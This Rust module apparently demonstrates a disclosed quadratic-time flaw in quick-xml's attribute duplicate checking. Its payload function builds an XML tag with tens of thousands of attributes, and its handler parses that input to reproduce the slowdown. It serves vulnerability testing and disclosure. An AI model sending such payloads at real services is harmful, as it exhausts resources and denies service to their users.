//! An XML start tag with many attributes, read with quick-xml's checked
//! attribute iterator.
//!
//! **Crate:** quick-xml 0.37.5; every release before 0.41 is affected
//! (RUSTSEC-2026-0194). **Issue:** `BytesStart::attributes()` checks each
//! attribute for a duplicate name by comparing it with every attribute before
//! it. **Growth:** O(n²) in the number of attributes: `<a a0="" a1="" …>`
//! with 40,000 attributes is under 400 KB.

use std::io::Write as _;

use quick_xml::Reader;
use quick_xml::events::Event;

use crate::AttackError;

/// `<a a0="" a1="" ... a(n-1)=""></a>`: one element with `n` distinct empty
/// attributes.
pub fn payload(n: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(8 + n * 10);
    out.extend_from_slice(b"<a");
    for i in 0..n {
        write!(out, " a{i}=\"\"").expect("writing to a Vec cannot fail");
    }
    out.extend_from_slice(b"></a>");
    out
}

/// Reads the document, iterates every start tag's attributes with checks on
/// (quick-xml's default), and reports how many elements and attributes it saw.
pub fn handle(body: &[u8]) -> Result<String, AttackError> {
    let mut reader = Reader::from_reader(body);
    let mut elements = 0usize;
    let mut attributes = 0usize;
    loop {
        let event = reader
            .read_event()
            .map_err(|e| AttackError::with_source("xml-attributes", "invalid XML", e))?;
        match event {
            Event::Start(tag) | Event::Empty(tag) => {
                elements += 1;
                for attribute in tag.attributes() {
                    attribute.map_err(|e| {
                        AttackError::with_source("xml-attributes", "invalid attribute", e)
                    })?;
                    attributes += 1;
                }
            }
            Event::Eof => break,
            _ => {}
        }
    }
    Ok(format!(
        "read {elements} elements with {attributes} attributes"
    ))
}
